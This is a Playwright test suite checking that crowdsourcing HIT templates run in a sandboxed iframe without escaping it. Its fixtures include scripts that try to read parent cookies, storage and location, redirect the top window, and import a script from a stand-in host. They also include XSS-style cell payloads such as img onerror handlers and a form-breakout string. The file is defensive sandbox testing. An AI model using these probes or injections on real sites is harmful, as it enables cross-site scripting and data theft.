"""An old HIT in a browser: filled in inside its frame, and unable to look out of it."""

import json
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FrameLocator

from tests.collection.imports.hits import TEMPLATE, make_hits
from tests.journeys.riding import Rider, find_faults, open_window
from tests.web.servers import Served, serve_in_thread

HEEDS_CONNECTIONS = 156
"""The first Chromium seen to heed Connection-Allowlist."""
PRYING = """
<p id="report"></p>
<input type="hidden" name="found" id="found">
<script>
  const found = {};
  const attempt = (name, act) => {
    try { found[name] = String(act()); } catch (error) { found[name] = "refused: " + error.name; }
  };
  attempt("title", () => parent.document.title);
  attempt("address", () => parent.location.href);
  attempt("cookie", () => document.cookie);
  attempt("parentStorage", () => parent.localStorage.length);
  attempt("top", () => { top.location = "https://elsewhere.example"; return "left"; });
  attempt("memory", () => { localStorage.setItem("a", "1"); return localStorage.getItem("a"); });
  attempt("origin", () => self.origin);
  const image = new Image();
  image.onerror = () => { found.image = "refused"; show(); };
  image.onload = () => { found.image = "loaded"; show(); };
  image.src = location.origin === "null" ? "/static/x/base.css" : new URL("/health", location.href).href;
  const show = () => { document.getElementById("found").value = JSON.stringify(found); };
  fetch("/health").then(() => { found.fetch = "answered"; }, () => { found.fetch = "refused"; }).then(show);
  show();
  document.getElementById("mturk_form").addEventListener("submit", (event) => {
    if (document.querySelector("textarea").value !== "no") return;
    event.preventDefault();
    alert("Please write more.");
  });
</script>
"""
CROWD = """
<script src="https://assets.crowd.ml/crowd-html-elements.js"></script>
<crowd-form answer-format="flatten-objects">
  <p>${text1}</p>
  <crowd-radio-group>
    <crowd-radio-button name="fluency" value="1">poor</crowd-radio-button>
    <crowd-radio-button name="fluency" value="2">good</crowd-radio-button>
  </crowd-radio-group>
  <crowd-slider name="clear" min="0" max="10" step="1"></crowd-slider>
  <crowd-classifier name="mood" categories="['glad', 'sad']" header="Mood?">
    <classification-target>${text2}</classification-target>
  </crowd-classifier>
  <crowd-checkbox name="odd" value="yes">It is odd</crowd-checkbox>
  <crowd-input name="why" label="Why?"></crowd-input>
</crowd-form>
"""


@pytest.fixture(scope="module")
def prying(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = make_hits(tmp_path_factory.mktemp("hit"), template=TEMPLATE + PRYING, hits_per_rater="2")
    with serve_in_thread(folder) as served:
        yield served


def answers(rider: Rider) -> list[dict[str, str]]:
    """Return the fields of every form that was handed in, in order."""
    visit = rider.visit()
    pages = rider.served.store.all_answers(visit.id)
    return [json.loads(fields["c1p1"].value) for _, fields in sorted(pages.items())]


def fill(frame: FrameLocator) -> None:
    frame.get_by_label("B", exact=True).check()
    frame.locator("select[name=fluency_1]").select_option("3")
    frame.locator("select[name=fluency_2]").select_option("1")


def test_a_hit_is_filled_in_and_its_scripts_cannot_look_out(browser: Browser, prying: Served) -> None:
    with open_window(browser, prying) as rider:
        rider.page.context.add_cookies([{"name": "ours", "value": "secret", "url": prying.url}])
        rider.join()
        page, here = rider.page, rider.where()["page"]
        frame = page.frame_locator("iframe.hit")
        assert frame.locator("#a b").inner_text() == "bold"  # cells are HTML, as they were on the platform
        frame.locator("#submitButton").click()  # nothing is chosen: the HIT's own form says so
        assert rider.where()["page"] == here
        assert not find_faults(page)
        fill(frame)
        frame.locator("textarea").fill("no")
        frame.locator("#submitButton").click()  # the HIT's own script refuses, and says so
        assert frame.get_by_role("alert").inner_text() == "Please write more."
        assert rider.where()["page"] == here
        frame.locator("textarea").fill("It, has “quotes”")
        page.wait_for_function("() => document.querySelector('iframe.hit').style.blockSize !== ''")
        frame.locator("#submitButton").click()
        rider.wait_past(here)
        given = answers(rider)[0]
        found = json.loads(given.pop("found"))
        assert given == {"best": "B", "fluency_1": "3", "fluency_2": "1", "comment": "It, has “quotes”"}
        for name in ("title", "address", "cookie", "parentStorage", "top"):
            assert found[name].startswith("refused: "), (name, found[name])
        assert (found["origin"], found["memory"]) == ("null", "1")
        assert (found["fetch"], found["image"]) == ("refused", "refused")
        assert page.url.startswith(f"{prying.url}/r/")
        page.reload()  # resumes at the second HIT
        assert rider.where()["page"] == "1-2"
        here = rider.where()["page"]
        fill(frame)
        frame.locator("#submitButton").click()
        rider.wait_past(here)
        assert len(answers(rider)) == 2
        assert rider.visit().state == "finished"
        assert not [one for one in rider.strangers if "s3.amazonaws" not in one]


def test_messages_from_elsewhere_are_no_answers(browser: Browser, prying: Served) -> None:
    with open_window(browser, prying) as rider:
        rider.join()
        rider.page.evaluate("postMessage({kind: 'panelist-submit', fields: {best: 'A'}}, '*')")
        rider.page.wait_for_timeout(200)
        assert rider.where()["page"] == "1-1"
        assert answers(rider) == []


def test_crowd_elements_give_the_fields_that_the_platform_gave(browser: Browser, tmp_path: Path) -> None:
    with (
        serve_in_thread(make_hits(tmp_path, template=CROWD)) as served,
        open_window(browser, served) as rider,
    ):
        here = rider.join().where()["page"]
        frame = rider.page.frame_locator("iframe.hit")
        frame.get_by_label("good").check()
        frame.get_by_label("sad").check()
        frame.locator("input[type=range]").fill("7")
        frame.get_by_label("It is odd").check()
        frame.get_by_label("Why?").fill("so")
        frame.get_by_role("button", name="Submit").click()
        rider.wait_past(here)
        assert answers(rider) == [
            {
                "fluency.1": "false",
                "fluency.2": "true",
                "clear": "7",
                "mood.label": "sad",
                "odd.yes": "true",
                "why": "so",
            }
        ]


LEAKING = """
<input type="hidden" name="found" id="found">
<script>
  const found = {};
  const note = (name, what) => {
    found[name] = what;
    document.getElementById("found").value = JSON.stringify(found);
  };
  note("rtc", [window.RTCPeerConnection, window.webkitRTCPeerConnection].map((one) => typeof one).join());
  addEventListener("message", ({ source, data }) => { if (source !== parent) note("heard", data); });
  const refused = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
    refused.push(effectiveDirective + " " + blockedURI);
    note("refused", refused.sort());
  });
  // A window of its own, in which nothing was taken away.
  const blank = document.createElement("iframe");
  document.documentElement.append(blank);
  try { note("blank", typeof blank.contentWindow.RTCPeerConnection); }
  catch (error) { note("blank", error.name); }
  const own = document.createElement("iframe");
  own.srcdoc = "<a id=panelistFrame></a>" + document.currentScript.outerHTML;
  if (parent !== top) parent.postMessage(typeof RTCPeerConnection, "*");
  else document.documentElement.append(own);
  const link = document.createElement("a");
  link.href = "javascript:document.getElementById('found').value = 'ran'";
  document.documentElement.append(link);
  link.click();
  import("https://elsewhere.example/x.js").catch(() => {});
</script>
"""
CELLS = {
    "script": "<script>onload = () => { document.querySelector('[value=B]').checked = true; };</script>",
    "handler": "<img src=x onerror=document.querySelector('[value=B]').checked=true>",
    "control": "<input type=hidden name=best value=B><input type=hidden name=fluency_1 value=3>",
    "cover": "<label style='position:fixed;inset:0'><input type=radio name=best value=B checked>x</label>",
    "way out": "</div></form><form id=mturk_form><input name=comment value=cell>",
}


def put_cell(folder: Path, cell: str) -> Path:
    path = folder / "input.csv"
    quoted = cell.replace('"', '""')
    lines = path.read_text("utf-8").splitlines()
    rows = [line.rpartition(",")[0] + f',"{quoted}seen"' for line in lines[1:]]
    path.write_text("\n".join([lines[0], *rows]) + "\n", "utf-8")
    return folder


def test_nothing_leaves_the_frame_by_a_connection_between_browsers(browser: Browser, tmp_path: Path) -> None:
    folder = make_hits(tmp_path, template=TEMPLATE + LEAKING, hits_per_rater="2")
    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
        here = rider.join().where()["page"]
        frame = rider.page.frame_locator("iframe.hit")
        rider.page.wait_for_timeout(500)
        fill(frame)
        frame.locator("#submitButton").click()
        rider.wait_past(here)
        found = json.loads(answers(rider)[0]["found"])
        refused = {"script-src-elem https://elsewhere.example/x.js", "script-src-elem inline"}
        assert refused <= set(found.pop("refused"))
        assert found == {"rtc": "undefined,undefined", "blank": "SecurityError"}


@pytest.mark.parametrize("name", sorted(CELLS))
def test_no_cell_answers_for_the_rater(browser: Browser, tmp_path: Path, name: str) -> None:
    folder = put_cell(make_hits(tmp_path, hits_per_rater="2"), CELLS[name])
    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
        here = rider.join().where()["page"]
        frame = rider.page.frame_locator("iframe.hit")
        assert frame.locator("#b").inner_text() == ("xseen" if name == "cover" else "seen")
        assert frame.locator("[name=best]:checked").count() == 0
        frame.get_by_label("A", exact=True).check()
        for field in ("fluency_1", "fluency_2"):
            frame.locator(f"select[name={field}]").select_option("1")
        frame.locator("#submitButton").click()
        rider.wait_past(here)
        assert answers(rider)[0] == {"best": "A", "fluency_1": "1", "fluency_2": "1", "comment": ""}


def test_a_form_that_nobody_touched_is_not_taken(browser: Browser, tmp_path: Path) -> None:
    hasty = "<script>addEventListener('load', () => document.querySelector('form').submit());</script>"
    folder = make_hits(tmp_path, template=TEMPLATE + hasty)
    with serve_in_thread(folder) as served, open_window(browser, served) as rider:
        rider.join()
        rider.page.wait_for_timeout(500)
        assert rider.where()["page"] == "1-1"
        assert answers(rider) == []


def test_the_frame_takes_no_place_and_comes_back_when_it_strays(browser: Browser, tmp_path: Path) -> None:
    elsewhere = socket.create_server(("127.0.0.1", 0))
    away = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/"
    within = f"<iframe srcdoc='<meta http-equiv=refresh content=0;url={away}>'></iframe>"
    straying = f"<a id=join href=/join>Join</a><a id=away href={away}>Away</a>{within}"
    folder = make_hits(tmp_path, template=TEMPLATE + straying)
    with elsewhere, serve_in_thread(folder) as served, open_window(browser, served) as rider:
        rider.join()
        places = len(served.store.snapshot().visits)
        frame = rider.page.frame_locator("iframe.hit")
        for link in ("#join", "#away"):
            frame.locator(link).evaluate("(link) => { window.old = true; link.click(); }")
            rider.page.wait_for_timeout(300)
            frame.locator("#submitButton").wait_for()
            assert frame.locator("body").evaluate("() => window.old") is None
        assert len(served.store.snapshot().visits) == places
        with served.client() as client:
            refused = client.get("/join", headers={"Sec-Fetch-Dest": "iframe"})
            assert refused.status_code == 403
        assert len(served.store.snapshot().visits) == places
        elsewhere.settimeout(0)
        if int(browser.version.partition(".")[0]) >= HEEDS_CONNECTIONS:
            with pytest.raises(
                BlockingIOError
            ):  # nobody so much as knocked, with an answer in the name of a host
                elsewhere.accept()
